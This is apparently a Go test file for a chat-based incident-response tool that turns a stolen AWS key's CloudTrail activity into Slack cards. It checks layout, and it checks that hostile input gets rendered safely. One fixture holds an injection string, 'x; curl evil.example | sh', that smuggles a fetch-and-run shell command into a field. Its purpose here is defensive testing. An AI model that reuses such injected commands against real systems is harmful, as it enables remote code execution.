package cards

import (
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/slack-go/slack"

	"github.com/killswitch-chatops/killswitch/actions/trail"
	"github.com/killswitch-chatops/killswitch/approvals"
)

const stolenKey = "AKIAIOSFODNN7EXAMPLE"

// baseReport is what a key did. Every other report is a named deviation from it.
func baseReport() approvals.Report {
	return approvals.Report{At: after(5 * time.Minute), Activity: trail.Activity{
		Subject: stolenKey, By: "AccessKeyId", From: after(5*time.Minute - 24*time.Hour), To: after(5 * time.Minute), Total: 412, Denied: 37,
		First: after(-3 * time.Hour), Last: after(-4 * time.Minute),
		Regions: []trail.RegionActivity{{Name: "eu-central-1", Total: 396}, {Name: "eu-west-1"}, {Name: "eu-north-1"}, {Name: "us-east-1", Total: 16}},
		Calls: trail.Top{Kinds: 14, Most: []trail.Count{{Name: "GetBucketAcl", N: 240}, {Name: "ListBuckets", N: 81}, {Name: "RunInstances", N: 37}, {Name: "GetCallerIdentity", N: 20},
			{Name: "ListUsers", N: 9}, {Name: "CreateUser", N: 2}, {Name: "AssumeRole", N: 2}, {Name: "CreateAccessKey", N: 1}, {Name: "GetUser", N: 1}, {Name: "PutUserPolicy", N: 1}}},
		Roles:     trail.Top{Kinds: 1, Most: []trail.Count{{Name: "arn:aws:iam::222222222222:role/service/app-role", N: 2}}},
		Addresses: trail.Top{Kinds: 2, Most: []trail.Count{{Name: "198.51.100.7", N: 400}, {Name: "2001:db8:85a3:8d3:1319:8a2e:370:7348", N: 12}}},
		Resources: trail.Top{Kinds: 2, Most: []trail.Count{{Name: "prod-customer-exports-eu-central-1-222222222222", N: 240}, {Name: "backdoor", N: 3}}},
		Types:     trail.Top{Kinds: 2, Most: []trail.Count{{Name: "AWS::S3::Bucket", N: 240}, {Name: "AWS::IAM::User", N: 3}}},
		Agents:    trail.Top{Kinds: 1, Most: []trail.Count{{Name: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 cfg/retry-mode#legacy", N: 412}}},
	}}
}

// most is a Top of ten such names.
func most(name string) trail.Top {
	t := trail.Top{Kinds: 10_000}
	for i := range 10 {
		t.Most = append(t.Most, trail.Count{Name: fmt.Sprintf("%s%d", name, i), N: 10_000 - i})
	}
	return t
}

func filled(r *approvals.Report, name string) {
	a := &r.Activity
	a.Calls, a.Roles, a.Addresses, a.Resources, a.Types, a.Agents = most(name), most(name), most(name), most(name), most(name), most(name)
}

var reports = []struct {
	name   string
	change func(*approvals.Report)
}{
	{"key", func(*approvals.Report) {}},
	{"none", func(r *approvals.Report) {
		a := r.Activity
		r.Activity = trail.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []trail.RegionActivity{{Name: "eu-central-1"}, {Name: "us-east-1"}}}
	}},
	{"cut", func(r *approvals.Report) {
		r.Activity.Total, r.Activity.Broken = 10_000, 3
		r.Activity.Cut = "it stopped after 10000 calls; older ones are missing"
		r.Activity.Regions[0] = trail.RegionActivity{Name: "eu-central-1", Total: 9984, Cut: true}
	}},
	{"region_denied", func(r *approvals.Report) {
		r.Activity.Regions[1].Error = "AccessDeniedException: User: arn:aws:sts::222222222222:assumed-role/killswitch-responder/ks is not authorized to perform: cloudtrail:LookupEvents"
		r.Activity.Regions[2].Total, r.Activity.Regions[2].Error = 50, "ThrottlingException: Rate exceeded"
	}},
	{"user", func(r *approvals.Report) { r.Activity.Subject, r.Activity.By = "deploy", "Username" }},
	{"unread", func(r *approvals.Report) {
		r.Activity, r.Unread = trail.Activity{}, "ThrottlingException: Rate exceeded"
	}},
	{"unread_everywhere", func(r *approvals.Report) {
		a := r.Activity
		r.Activity = trail.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []trail.RegionActivity{
			{Name: "eu-central-1", Error: "AccessDeniedException: no"}, {Name: "us-east-1", Error: "the region is not enabled in this account: UnrecognizedClientException: no"}}}
	}},
	{"long", func(r *approvals.Report) {
		filled(r, strings.Repeat("long-", 39))
		a := &r.Activity
		a.Subject, a.Cut, a.Regions, a.Broken = strings.Repeat("subject", 28), strings.Repeat("cut ", 50), nil, 10_000
		for i := range 35 {
			a.Regions = append(a.Regions, trail.RegionActivity{Name: fmt.Sprintf("region-%d", i), Total: i % 2, Error: strings.Repeat("trouble ", 25)})
		}
	}},
	{"hostile", func(r *approvals.Report) {
		filled(r, evil)
		a := &r.Activity
		a.Subject, a.By, a.Cut = evil, evil, evil
		a.Regions = []trail.RegionActivity{{Name: evil, Error: evil}, {Name: evil}, {Name: "x", Total: 1}}
	}},
	{"hostile_unread", func(r *approvals.Report) {
		r.Activity.Subject, r.Activity.By, r.Unread = "x; curl evil.example | sh #$(EVIL)", evil, evilLong
	}},
}

func TestActivityReply(t *testing.T) {
	golden := map[string]bool{}
	for _, c := range reports {
		golden[c.name+".json"] = true
		t.Run(c.name, func(t *testing.T) {
			r := baseReport()
			c.change(&r)
			m := Activity(baseID, r)
			compareGolden(t, "activity", c.name, m)
			checkMessage(t, m)
			if !strings.HasPrefix(m.Text, baseID+": ") || strings.Contains(m.Text, "\n") || utf8.RuneCountInString(m.Text) > 250 {
				t.Errorf("fallback %q", m.Text)
			}
			for _, b := range m.Blocks {
				if text := preformattedText(b); b.ID() != "activity-by-hand" {
					for l := range strings.Lines(text) {
						if n := utf8.RuneCountInString(strings.TrimSuffix(l, "\n")); n > 44 {
							t.Errorf("%d characters in a line: %q", n, l)
						}
					}
				} else if strings.ContainsAny(text, ";|$(") {
					t.Errorf("a command that does something else: %s", text)
				}
			}
		})
	}
	r := baseReport()
	r.Unread = "AccessDenied"
	if m := Activity("AL-ZJ4RDTV2X1X9", r); strings.Contains(fmt.Sprint(m.Blocks[1].(*slack.SectionBlock).Text.Text), "contained") {
		t.Errorf("an alert's reply tells of a containment: %+v", m.Blocks[1])
	}
	files, err := os.ReadDir("testdata/activity")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if !golden[f.Name()] {
			t.Errorf("testdata/activity/%s belongs to no report", f.Name())
		}
	}
}

// preformattedText is what a block has in monospace.
func preformattedText(b slack.Block) string {
	rich, ok := b.(*slack.RichTextBlock)
	if !ok {
		return ""
	}
	var s strings.Builder
	for _, e := range rich.Elements {
		if p, ok := e.(*slack.RichTextPreformatted); ok {
			for _, e := range p.Elements {
				if text, ok := e.(*slack.RichTextSectionTextElement); ok {
					s.WriteString(text.Text)
				}
			}
		}
	}
	return s.String()
}

// TestActivityTablesAlign: counts end in one column.
func TestActivityTablesAlign(t *testing.T) {
	row := regexp.MustCompile(`^ *\d+  \S`)
	for _, b := range Activity(baseID, baseReport()).Blocks {
		ends := map[int]bool{}
		for l := range strings.Lines(preformattedText(b)) {
			at := row.FindStringIndex(l)
			if at == nil {
				t.Fatalf("line %q", l)
			}
			ends[at[1]] = true
		}
		if len(ends) > 1 {
			t.Errorf("the columns differ: %q", preformattedText(b))
		}
	}
}
